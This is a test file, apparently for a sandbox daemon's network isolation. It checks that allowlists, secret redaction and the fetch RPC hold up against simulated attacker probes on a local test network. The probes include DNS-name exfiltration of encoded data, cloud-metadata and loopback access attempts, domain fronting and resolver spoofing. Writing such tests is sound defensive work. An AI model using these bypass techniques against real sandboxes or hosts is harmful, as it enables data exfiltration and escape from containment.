// Outbound network, as an attacker inside the sandbox would probe it: the
// allowNet patterns, every bypass we know of, secret substitution and
// redaction, and the fetch RPC. The "internet" is a network namespace of the
// test's own (tests/lib/upstream.mjs); nothing leaves this machine.
import assert from "node:assert/strict";
import { after } from "node:test";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { useDaemon, dtest, waitFor } from "../lib/harness.mjs";
import { Upstream } from "../lib/upstream.mjs";

let up;
const d = useDaemon(async () => {
  up = await new Upstream().start();
  return { orgs: ["a"], extraArgs: up.daemonArgs() };
});
after(async () => {
  if (up) await up.stop();
});

/** Runs a bash script in `box`; returns {code, out, err}. */
async function run(box, script) {
  const child = await box.spawn("bash", { args: ["-c", script], stdout: "piped", stderr: "piped" });
  const o = await child.output();
  return { code: o.status.code, out: o.stdoutText ?? "", err: o.stderrText ?? "" };
}

/** A sandbox with `options`, with the upstream's test CA at /tmp/ca.pem (for spliced TLS). */
async function box(options = {}) {
  const sb = await d.create("a", options);
  await sb.fs.writeTextFile("/tmp/ca.pem", readFileSync(up.caFile, "utf8"));
  return sb;
}

// curl with a hard cap: a hang fails the test instead of stalling it.
// -f: an HTTP error status (the proxy answers 403 for a denied plain-HTTP host) is a failure too.
const curl = (args) => `curl -fsS --max-time 10 --cacert /tmp/ca.pem ${args}`;

/** Python snippet: TCP connect + send, prints OK:<reply> or ERR:<errno name>, and the elapsed ms. */
function pyConnect(host, port, payload = "hello\\n") {
  return `python3 - <<'PY'
import socket, time, errno
t = time.time()
try:
    s = socket.create_connection(("${host}", ${port}), timeout=8)
    s.sendall(b"${payload}")
    s.settimeout(8)
    data = s.recv(100)
    print("OK:" + data.decode(errors="replace").strip() if data else "ERR:EOF")
except OSError as e:
    print("ERR:" + (errno.errorcode.get(e.errno, str(e)) if e.errno else type(e).__name__))
print("ms=%d" % ((time.time() - t) * 1000))
PY`;
}
/** Shell snippet resolving `name` with the libc resolver: prints the address, or rc=2 when it does not resolve. */
const resolve = (name) =>
  `python3 -c 'import socket,sys
try: print(socket.gethostbyname(sys.argv[1]))
except socket.gaierror: print("rc=2")' ${name}`;
const elapsed = (out) => Number(/ms=(\d+)/.exec(out)?.[1] ?? 1e9);

// ---------------------------------------------------------------- allowNet

dtest(d, "no allowNet: no outbound access at all, and denial is immediate", async () => {
  const sb = await box();
  const dns = await run(sb, resolve("api.test"));
  assert.match(dns.out, /rc=2/, `the name must not resolve: ${dns.out}`);
  const r = await run(sb, pyConnect(up.ip, 443));
  assert.match(r.out, /ERR:(ECONNREFUSED|ECONNRESET|EOF)/, r.out);
  assert.ok(elapsed(r.out) < 2000, `denial must be fast, took ${elapsed(r.out)} ms`);
  const c = await run(sb, curl(`https://api.test/echo; echo rc=$?`));
  assert.doesNotMatch(c.out, /"method"/);
});

dtest(d, "host entry: that name on every port, nothing else", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const ok = await run(sb, curl("https://api.test/echo"));
  assert.equal(ok.code, 0, ok.err);
  assert.equal(JSON.parse(ok.out).servername, "api.test");
  const ok2 = await run(sb, curl("http://api.test:8080/echo"));
  assert.equal(JSON.parse(ok2.out).host, "api.test:8080");
  const other = await run(sb, curl("https://other.test/echo"));
  assert.notEqual(other.code, 0, "other.test is not allowed");
  assert.equal((await run(sb, resolve("other.test"))).out.trim(), "rc=2");
  assert.match((await run(sb, resolve("api.test"))).out, new RegExp(up.ip.replaceAll(".", "\\.")));
});

dtest(d, "host:port entry: only that port", async () => {
  const sb = await box({ allowNet: ["api.test:443"] });
  assert.equal((await run(sb, curl("https://api.test/echo"))).code, 0);
  const r = await run(sb, curl("https://api.test:8443/echo"));
  assert.notEqual(r.code, 0, "port 8443 is not allowed");
  const p = await run(sb, curl("http://api.test/echo"));
  assert.notEqual(p.code, 0, "port 80 is not allowed");
});

dtest(d, "*.suffix entry: subdomains, not the apex, not look-alikes", async () => {
  const sb = await box({ allowNet: ["*.svc.test"] });
  assert.equal((await run(sb, curl("https://a.svc.test/echo"))).code, 0);
  assert.notEqual((await run(sb, curl("https://svc.test/echo"))).code, 0);
  assert.notEqual((await run(sb, curl("https://api.test/echo"))).code, 0);
});

dtest(d, "IPv4 literal entry: any protocol to that address (and port), nothing by name", async () => {
  const sb = await box({ allowNet: [`${up.ip}:7`] });
  const echo = await run(sb, pyConnect(up.ip, 7, "raw-bytes\\n"));
  assert.match(echo.out, /OK:raw-bytes/, echo.out);
  const other = await run(sb, pyConnect(up.ip, 80, "GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"));
  assert.doesNotMatch(other.out, /OK:HTTP\/1\.1 200/, `port 80 of that address is not allowed: ${other.out}`);
});

dtest(d, "a bad allowNet pattern is refused at create with a clear message", async () => {
  await assert.rejects(d.create("a", { allowNet: ["exa mple.com"] }), /allow_net|allowNet|exa mple/);
});

// ---------------------------------------------------------------- bypasses

dtest(d, "bypass: dialling an IP directly does not reach it (the proxy decides by name)", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  // A TLS hello without the allowed name, or raw bytes, to the right address.
  const raw = await run(sb, pyConnect(up.ip, 7));
  assert.match(raw.out, /ERR:/);
  const bare = await run(sb, curl(`https://${up.ip}/echo`));
  assert.notEqual(bare.code, 0, "an IP URL has no allowed SNI");
});

dtest(d, "bypass: private, loopback and metadata addresses are refused even under an allowed name", async () => {
  const sb = await box({ allowNet: ["private.test", "metadata.test", "loopback.test"] });
  for (const name of ["private.test", "metadata.test", "loopback.test"]) {
    const r = await run(sb, resolve(name));
    assert.match(r.out, /rc=2/, `${name} must not resolve to an internal address: ${r.out}`);
    const c = await run(sb, curl(`--resolve ${name}:80:${up.ip} http://${name}/echo`));
    assert.notEqual(c.code, 0, `${name} must be refused`);
  }
  // The metadata address on a port nobody named.
  const m = await run(sb, pyConnect("169.254.169.254", 80, "GET / HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n"));
  assert.match(m.out, /ERR:|OK:HTTP\/1\.1 403/, m.out);
});

dtest(d, "bypass: the host's own loopback services (the daemon's API) are unreachable", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const port = new URL(d.url).port;
  const { address } = await (await d.fetch(`/api/v3/sandboxes/${sb.id}/network`)).json();
  const gw = address.replace(/\.(\d+)$/, (_, n) => `.${Number(n) - 1}`);  // the host end of its /30
  for (const host of [gw, "127.0.0.1", "10.0.2.2"]) {
    for (const hostHeader of [host, "127.0.0.1", "api.test"]) {
      const r = await run(sb, pyConnect(host, port, `GET /healthz HTTP/1.1\\r\\nHost: ${hostHeader}\\r\\n\\r\\n`));
      assert.doesNotMatch(r.out, /OK:HTTP\/1\.1 200/, `reached the daemon via ${host} (Host ${hostHeader}): ${r.out}`);
    }
  }
});

dtest(d, "bypass: DNS to an outside resolver is answered by ours, by policy; data in names goes nowhere", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const before = await up.counters();
  const py = `python3 - <<'PY'
import socket, struct, random
def q(name, server):
    tid = random.randrange(65536)
    pkt = struct.pack(">HHHHHH", tid, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        pkt += bytes([len(l)]) + l.encode()
    pkt += b"\\x00" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(pkt, (server, 53))
    try:
        r = s.recv(512)
        print(name, "rcode=%d" % (r[3] & 15), "answers=%d" % struct.unpack(">H", r[6:8])[0])
    except socket.timeout:
        print(name, "timeout")
q("api.test", "${up.ip}")
q("c2VjcmV0LWRhdGE.exfil.test", "${up.ip}")
q("api.test", "8.8.8.8")
PY`;
  const r = await run(sb, py);
  assert.match(r.out, /^api\.test rcode=0 answers=1$/m, r.out);
  assert.match(r.out, /^c2VjcmV0LWRhdGE\.exfil\.test rcode=3 answers=0$/m, r.out);
  const after = await up.counters();
  assert.equal(after.udpByPort["53"] ?? 0, before.udpByPort["53"] ?? 0, "no DNS datagram may reach the outside resolver");
});

dtest(d, "bypass: other UDP, IPv6 and ICMP go nowhere", async () => {
  const sb = await box({ allowNet: ["api.test", up.ip] });
  const before = await up.counters();
  const r = await run(sb, `python3 - <<'PY'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("${up.ip}", 9999))
for i in range(5):
    try:
        s.send(b"exfil")
    except OSError as e:
        pass
try:
    s.settimeout(1); s.recv(10)
except OSError as e:
    print("udp", type(e).__name__)
try:
    v6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    v6.settimeout(3)
    v6.connect(("2001:db8::1", 443))
    print("v6 connected")
except OSError as e:
    print("v6", type(e).__name__)
PY
ping -c1 -W1 ${up.ip} >/dev/null 2>&1 && echo ping-ok || echo ping-failed`);
  assert.doesNotMatch(r.out, /v6 connected/);
  assert.match(r.out, /ping-failed/);
  const after = await up.counters();
  assert.equal(after.udpByPort["9999"] ?? 0, before.udpByPort["9999"] ?? 0, "UDP must not leave the sandbox");
});

dtest(d, "bypass: spoofing /etc/hosts or --resolve changes nothing; the proxy resolves names itself", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  // A denied name pointed at the allowed upstream's address: still denied.
  const denied = await run(sb, curl(`--resolve other.test:443:${up.ip} https://other.test/echo`));
  assert.notEqual(denied.code, 0);
  // An allowed name pointed elsewhere: the proxy connects to the real one.
  const pinned = await run(sb, curl("--resolve api.test:443:203.0.113.9 https://api.test/echo"));
  assert.equal(pinned.code, 0, pinned.err);
  assert.equal(JSON.parse(pinned.out).servername, "api.test");
});

dtest(d, "bypass: plain HTTP is judged per request by its Host, also on a kept-alive connection", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const r = await run(sb, `python3 - <<'PY'
import http.client
c = http.client.HTTPConnection("api.test", 80, timeout=8)
c.request("GET", "/echo", headers={"Host": "api.test"})
r = c.getresponse(); r.read(); print("first", r.status)
try:
    c.request("GET", "/echo", headers={"Host": "other.test"})
    r = c.getresponse(); body = r.read(); print("second", r.status, b"other.test" in body and b"method" in body)
except Exception as e:
    print("second", type(e).__name__)
PY`);
  assert.match(r.out, /first 200/, r.out);
  assert.doesNotMatch(r.out, /second 200/, `a second request for another host must not pass: ${r.out}`);
});

dtest(d, "bypass: a redirect from an allowed host to a denied one is not followed through", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const r = await run(sb, curl(`-L "https://api.test/redirect?to=https://other.test/echo"`));
  assert.notEqual(r.code, 0, `the redirect target must be refused: ${r.out}`);
  // The SDK's fetch follows redirects in the daemon, hop by hop, under the same rules.
  await assert.rejects(sb.fetch("https://api.test/redirect?to=https://other.test/echo"));
});

// ---------------------------------------------------------------- secrets

const SECRET = "sk-live-real-value-4f2a9c";

async function secretBox(extra = {}) {
  return await box({
    allowNet: ["other.test"],
    secrets: { API_KEY: { hosts: ["api.test"], value: SECRET } },
    ...extra,
  });
}

dtest(d, "secrets: the value is nowhere inside the sandbox", async () => {
  const sb = await secretBox();
  const placeholder = (await run(sb, "printf %s \"$API_KEY\"")).out;
  assert.match(placeholder, /^sbx_placeholder_[0-9a-f]{32}$/);
  const env = await run(sb, "env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'");
  assert.ok(!env.out.includes(SECRET), "the value must not be in any environment");
  const files = await run(sb, `grep -rIl --exclude-dir=proc --exclude-dir=sys -- '${SECRET}' / 2>/dev/null; echo done`);
  assert.equal(files.out.trim(), "done", `found in files: ${files.out}`);
  for (const v of ["SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "DENO_CERT", "REQUESTS_CA_BUNDLE"]) {
    const p = (await run(sb, `printf %s "$${v}"`)).out;
    assert.ok(p.startsWith("/etc/ssl/certs/"), `${v}=${p}`);
    assert.equal((await run(sb, `test -s "${p}" && echo ok`)).out.trim(), "ok", `${v} names no file`);
  }
});

dtest(d, "secrets: an approved host gets the value; the sandbox sees it redacted", async () => {
  const sb = await secretBox();
  // No --cacert: the sandbox CA is in the default trust store.
  const r = await run(sb, `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" -X POST --data "key=$API_KEY" "https://api.test/echo?k=$API_KEY" -D /tmp/h`);
  assert.equal(r.code, 0, r.err);
  assert.ok(!r.out.includes(SECRET), "the response must be redacted");
  const echo = JSON.parse(r.out);
  const placeholder = (await run(sb, "printf %s \"$API_KEY\"")).out;
  // What the upstream saw, as it echoed it (redacted on the way back).
  assert.equal(echo.headers.authorization, `Bearer ${placeholder}`);
  assert.equal(echo.body, `key=${placeholder}`);
  assert.equal(echo.url, `/echo?k=${placeholder}`);
  assert.equal(echo.alpn, "http/1.1");
  const hdrs = (await run(sb, "cat /tmp/h")).out;
  assert.match(hdrs, new RegExp(`x-echo-auth: Bearer ${placeholder}`, "i"), "response headers redacted too");
  // The proof that the value went upstream: the upstream's view, taken from the daemon's counters.
  const net = await (await d.fetch(`/api/v3/sandboxes/${sb.id}/network`)).json();
  assert.ok(net.stats.requestsSubstituted >= 1, JSON.stringify(net));
});

dtest(d, "secrets: the value really reaches the approved upstream (proof immune to redaction)", async () => {
  const sb = await secretBox();
  const r = await run(sb, `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" --data "v=$API_KEY" https://api.test/hash`);
  assert.equal(r.code, 0, r.err);
  const got = JSON.parse(r.out);
  const sha = (s) => createHash("sha256").update(s).digest("hex");
  assert.equal(got.authSha256, sha(`Bearer ${SECRET}`), "the upstream must receive the real value in the header");
  assert.equal(got.bodySha256, sha(`v=${SECRET}`), "and in the body");
  // Not approved: the placeholder arrives, never the value.
  const o = await run(sb, curl(`-H "Authorization: Bearer $API_KEY" https://other.test/hash`));
  const placeholder = (await run(sb, "printf %s \"$API_KEY\"")).out;
  assert.equal(JSON.parse(o.out).authSha256, sha(`Bearer ${placeholder}`));
});

dtest(d, "secrets: a host not named for the secret receives only the placeholder", async () => {
  const sb = await secretBox();
  const placeholder = (await run(sb, "printf %s \"$API_KEY\"")).out;
  const r = await run(sb, curl(`-H "Authorization: Bearer $API_KEY" https://other.test/echo`));
  assert.equal(r.code, 0, r.err);
  assert.equal(JSON.parse(r.out).headers.authorization, `Bearer ${placeholder}`);
  assert.equal(JSON.parse(r.out).servername, "other.test");
});

dtest(d, "secrets: unsafe requests are refused rather than leaked or sent with the placeholder", async () => {
  const sb = await secretBox();
  const gz = await run(sb, `printf 'key=%s' "$API_KEY" | gzip | curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Content-Encoding: gzip' --data-binary @- https://api.test/echo`);
  assert.match(gz.out, /^4\d\d$/, `a compressed body must be refused: ${gz.out} ${gz.err}`);
  const gzResp = await run(sb, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://api.test/gzip`);
  assert.match(gzResp.out, /^5\d\d$/, `a compressed response cannot be redacted: ${gzResp.out}`);
  const plain = await run(sb, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $API_KEY" http://api.test/echo`);
  assert.match(plain.out, /^403$/, `secrets never go over plain HTTP: ${plain.out}`);
  const fronting = await run(sb, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Host: other.test' https://api.test/echo`);
  assert.match(fronting.out, /^421$/, `domain fronting: ${fronting.out}`);
});

dtest(d, "fetch RPC: from the sandbox's network, with the same rules and substitution", async () => {
  const sb = await secretBox();
  const placeholder = await sb.env.get("API_KEY");
  const res = await sb.fetch("https://api.test/echo", {
    method: "POST",
    headers: { authorization: `Bearer ${placeholder}` },
    body: `k=${placeholder}`,
  });
  assert.equal(res.status, 200);
  const echo = await res.json();
  assert.equal(echo.headers.authorization, `Bearer ${placeholder}`, "redacted on the way back");
  assert.equal(echo.body, `k=${placeholder}`);
  const other = await sb.fetch("https://other.test/echo");
  assert.equal((await other.json()).servername, "other.test");
  await assert.rejects(sb.fetch("https://denied.test/echo"));
  const empty = await sb.fetch("https://other.test/nobody");
  assert.equal(empty.status, 204);
  const big = await sb.fetch("https://other.test/big?n=3000000");
  assert.equal((await big.arrayBuffer()).byteLength, 3000000);
  const manual = await sb.fetch("https://other.test/redirect?to=/echo", { redirect: "manual" });
  assert.equal(manual.status, 302);
  const followed = await sb.fetch("https://other.test/redirect?to=/echo");
  assert.equal(followed.status, 200);
});

// ---------------------------------------------------------------- net allow, cleanup

dtest(d, "the allowlist of a running sandbox can be replaced; new connections see it at once", async () => {
  const sb = await box();
  assert.notEqual((await run(sb, curl("https://api.test/echo"))).code, 0);
  const put = await d.fetch(`/api/v3/sandboxes/${sb.id}/network`, { method: "PUT", body: JSON.stringify({ allowNet: ["api.test"] }), headers: { "content-type": "application/json" } });
  assert.equal(put.status, 200, await put.clone().text());
  assert.deepEqual((await put.json()).allowNet, ["api.test"]);
  assert.equal((await run(sb, curl("https://api.test/echo"))).code, 0);
  const bad = await d.fetch(`/api/v3/sandboxes/${sb.id}/network`, { method: "PUT", body: JSON.stringify({ allowNet: ["bad host"] }) });
  assert.equal(bad.status, 400);
  assert.notEqual((await run(sb, curl(`--resolve other.test:443:${up.ip} https://other.test/echo`))).code, 0);
  const net = await (await d.fetch(`/api/v3/sandboxes/${sb.id}/network`)).json();
  assert.ok(net.stats.connectionsAllowed >= 1 && net.stats.connectionsDenied >= 1, JSON.stringify(net.stats));
  // Back to nothing: refused by the firewall itself, at once.
  await d.fetch(`/api/v3/sandboxes/${sb.id}/network`, { method: "PUT", body: JSON.stringify({ allowNet: [] }) });
  const r = await run(sb, pyConnect(up.ip, 443));
  assert.match(r.out, /ERR:ECONNREFUSED/, r.out);
});

dtest(d, "everything a sandbox's network made is gone after kill", async () => {
  const sb = await box({ allowNet: ["api.test"] });
  const id = sb.id;
  const net = await (await d.fetch(`/api/v3/sandboxes/${id}/network`)).json();
  const links = () => execFileSync("ip", ["-o", "link"]).toString();
  const tables = () => execFileSync("nft", ["list", "ruleset"]).toString();
  assert.match(tables(), new RegExp(net.address.replaceAll(".", "\\.")), "the sandbox's address is in the firewall sets");
  const ifname = /(sx[0-9a-f]+)/.exec(tables().split("\n").find((l) => l.includes(net.address)) ?? "")?.[1];
  assert.ok(ifname && links().includes(ifname), `its veth ${ifname} exists`);
  await sb.kill();
  await waitFor(() => !links().includes(`${ifname}@`) && !links().includes(`${ifname}:`), { what: "the veth to go" });
  await waitFor(() => !tables().includes(net.address), { what: "the firewall elements to go" });
});
